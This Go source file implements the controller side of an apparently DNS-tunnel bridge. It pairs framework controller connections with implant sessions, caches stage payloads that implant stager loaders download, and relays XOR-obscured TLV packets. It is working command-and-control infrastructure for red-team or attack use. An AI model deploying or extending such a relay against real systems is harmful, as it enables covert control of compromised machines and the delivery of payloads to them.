package controller

import (
	"encoding/binary"
	"errors"
	"net"
	"sync"
	"time"

	"github.com/google/uuid"
	"github.com/rs/zerolog/log"

	"dns-bridge/internal/tunnel"
)

// tlvHeaderSize is the fixed-size prefix of every forwarded TLV packet: a
// 4-byte XOR key followed by fields opaque to the bridge, with the
// (XOR-obscured) length field packed into bytes 24..27.
const tlvHeaderSize = 32

type wakeKind int

const (
	wakeClient wakeKind = iota
	wakeStage
)

// Controller is one TCP connection from a framework-side controller. It
// implements tunnel.ControllerSubscriber (woken by the registry once a
// session registers or a stage upload is needed) and the narrow sessionPeer
// behavior tunnel.Session expects from its paired controller.
//
// One goroutine (run) owns all reads off conn and drives the ID -> [stage]
// -> status -> TLV state transitions; a second goroutine (writeLoop) drains
// the paired session's uplink queue onto conn. This is the idiomatic-Go
// replacement for the original's single-threaded select() reactor: blocking
// per-connection I/O instead of cooperative non-blocking reads.
type Controller struct {
	conn     net.Conn
	reg      *tunnel.Registry
	listener *Listener
	id       uuid.UUID

	mu             sync.Mutex
	serverID       string
	session        *tunnel.Session
	stageRequested bool

	wake      chan wakeKind
	pairedCh  chan struct{}
	stopWrite chan struct{}
	closeOnce sync.Once
}

func newController(conn net.Conn, reg *tunnel.Registry, l *Listener) *Controller {
	return &Controller{
		conn:      conn,
		reg:       reg,
		listener:  l,
		id:        uuid.New(),
		wake:      make(chan wakeKind, 2),
		pairedCh:  make(chan struct{}),
		stopWrite: make(chan struct{}),
	}
}

// run drives this connection's entire lifecycle. It returns once the
// connection is closed, by either side or by a protocol violation.
func (c *Controller) run() {
	defer c.closeConn()

	fr := newFrameReader(c.conn)
	if err := c.readID(fr); err != nil {
		log.Debug().Str("conn", c.id.String()).Err(err).Msg("controller: id read failed")
		return
	}
	log.Info().Str("conn", c.id.String()).Str("server_id", c.serverID).Msg("controller: connected")

	if !c.tryAcquire() {
		c.reg.Subscribe(c.serverID, c)
		kind, ok := <-c.wake
		if !ok {
			return
		}
		if kind == wakeStage {
			if err := c.readStage(fr); err != nil {
				log.Warn().Str("conn", c.id.String()).Err(err).Msg("controller: stage read failed")
				return
			}
		}
	}

	go c.writeLoop()

	for {
		done, err := c.statusRound(fr)
		if err != nil {
			return
		}
		if done {
			break
		}
	}

	for {
		if err := c.tlvRound(fr); err != nil {
			return
		}
	}
}

// readID consumes the one-byte length prefix and the server_id string it
// names; server_id is the rendezvous key sessions register under.
func (c *Controller) readID(fr *frameReader) error {
	n, err := fr.readByte()
	if err != nil {
		return err
	}
	if n == 0 {
		return errors.New("controller: empty server id")
	}
	idBytes, err := fr.readExact(int(n))
	if err != nil {
		return err
	}
	c.serverID = string(idBytes)
	return nil
}

// readStage consumes an uploaded stage payload: a 4-byte little-endian
// length prefix followed by that many bytes. The cached stage blob includes
// the length prefix verbatim, since that is what the implant's stager loader
// expects to download.
func (c *Controller) readStage(fr *frameReader) error {
	prefix, err := fr.readExact(4)
	if err != nil {
		return err
	}
	size := binary.LittleEndian.Uint32(prefix)
	payload, err := fr.readExact(int(size))
	if err != nil {
		return err
	}
	full := make([]byte, 0, len(prefix)+len(payload))
	full = append(full, prefix...)
	full = append(full, payload...)
	c.reg.AddStagerForServer(c.serverID, full)
	log.Info().Str("conn", c.id.String()).Str("server_id", c.serverID).Int("size", int(size)).Msg("controller: stage uploaded")
	return nil
}

// statusRound answers one status probe byte: 0x01 once a session is paired,
// 0x00 otherwise. Once it answers 0x01 the connection moves permanently to
// TLV forwarding; the framework side never probes again afterward.
func (c *Controller) statusRound(fr *frameReader) (done bool, err error) {
	if _, err := fr.readExact(1); err != nil {
		return false, err
	}

	if !c.isPaired() {
		c.tryAcquire()
	}

	resp := byte(0)
	if c.isPaired() {
		resp = 1
	}
	if _, err := c.conn.Write([]byte{resp}); err != nil {
		return false, err
	}
	return resp == 1, nil
}

// tlvRound forwards one whole TLV packet (header and body) to the paired
// session's downlink queue, opaque to this layer. The packet's encrypted
// length field must be XOR-decoded with the header's own key to find the
// body length, per the wire format this bridge relays.
func (c *Controller) tlvRound(fr *frameReader) error {
	header, err := fr.readExact(tlvHeaderSize)
	if err != nil {
		return err
	}

	var lenField [4]byte
	for i := range lenField {
		lenField[i] = header[24+i] ^ header[i%4]
	}
	pktLength := binary.BigEndian.Uint32(lenField[:])
	if pktLength < 8 {
		return errors.New("controller: malformed tlv length field")
	}

	body, err := fr.readExact(int(pktLength - 8))
	if err != nil {
		return err
	}

	frame := make([]byte, 0, len(header)+len(body))
	frame = append(frame, header...)
	frame = append(frame, body...)

	c.mu.Lock()
	s := c.session
	c.mu.Unlock()
	if s == nil {
		log.Error().Str("conn", c.id.String()).Msg("controller: tlv frame with no paired session, dropping")
		return nil
	}
	s.ServerPutData(frame)
	return nil
}

// writeLoop drains the paired session's uplink queue onto the connection
// for as long as the connection lives.
func (c *Controller) writeLoop() {
	select {
	case <-c.pairedCh:
	case <-c.stopWrite:
		return
	}
	c.mu.Lock()
	s := c.session
	c.mu.Unlock()

	for {
		select {
		case <-c.stopWrite:
			return
		default:
		}
		data := s.ServerGetData(2 * time.Second)
		if data == nil {
			continue
		}
		if _, err := c.conn.Write(data); err != nil {
			log.Warn().Str("conn", c.id.String()).Err(err).Msg("controller: write failed")
			c.closeConn()
			return
		}
	}
}

// tryAcquire tries to pair this connection with a session waiting under
// serverID, returning true if it (or a prior call) succeeded.
func (c *Controller) tryAcquire() bool {
	if c.isPaired() {
		return true
	}
	s, ok := c.reg.GetNewClientForServer(c.serverID)
	if !ok {
		return false
	}
	c.pair(s)
	return true
}

func (c *Controller) pair(s *tunnel.Session) {
	c.mu.Lock()
	if c.session != nil {
		c.mu.Unlock()
		return
	}
	c.session = s
	c.mu.Unlock()
	s.SetPeer(c)
	close(c.pairedCh)
	log.Info().Str("conn", c.id.String()).Str("client_id", string(s.ClientID())).Msg("controller: paired with session")
}

func (c *Controller) isPaired() bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.session != nil
}

// OnNewClient implements tunnel.ControllerSubscriber: the registry calls
// this on the first subscriber once a session registers under serverID.
func (c *Controller) OnNewClient() {
	if c.isPaired() {
		log.Warn().Str("conn", c.id.String()).Msg("controller: on_new_client with session already paired")
		return
	}
	if !c.tryAcquire() {
		return
	}
	c.reg.Unsubscribe(c.serverID, c)
	select {
	case c.wake <- wakeClient:
	default:
	}
}

// RequestStage implements tunnel.ControllerSubscriber: the registry calls
// this on the first subscriber when a stage upload is needed and none is
// cached yet.
func (c *Controller) RequestStage() {
	c.mu.Lock()
	if c.stageRequested {
		c.mu.Unlock()
		log.Info().Str("conn", c.id.String()).Msg("controller: stage already requested on this connection")
		return
	}
	c.stageRequested = true
	c.mu.Unlock()
	select {
	case c.wake <- wakeStage:
	default:
	}
}

// Polling implements the sessionPeer interface. The uplink queue is a
// buffered channel the write side already blocks on, so a queued frame is
// picked up on its own; no explicit wakeup is needed.
func (c *Controller) Polling() {}

// OnClientTimeout implements the sessionPeer interface: the registry reaped
// our paired session, so the connection has nothing left to serve.
func (c *Controller) OnClientTimeout() {
	c.mu.Lock()
	c.session = nil
	c.mu.Unlock()
	log.Info().Str("conn", c.id.String()).Msg("controller: paired session timed out, closing")
	c.closeConn()
}

// closeConn tears the connection down exactly once: closes the socket,
// unregisters the paired client (if any) and our subscription, and tells
// the listener to drop us from its live set.
func (c *Controller) closeConn() {
	c.closeOnce.Do(func() {
		close(c.stopWrite)
		c.conn.Close()

		c.mu.Lock()
		s := c.session
		serverID := c.serverID
		c.mu.Unlock()

		if s != nil {
			c.reg.UnregisterClient(s.ClientID(), true)
			s.SetPeer(nil)
		}
		if serverID != "" {
			c.reg.Unsubscribe(serverID, c)
		}
		if c.listener != nil {
			c.listener.untrack(c)
		}
	})
}
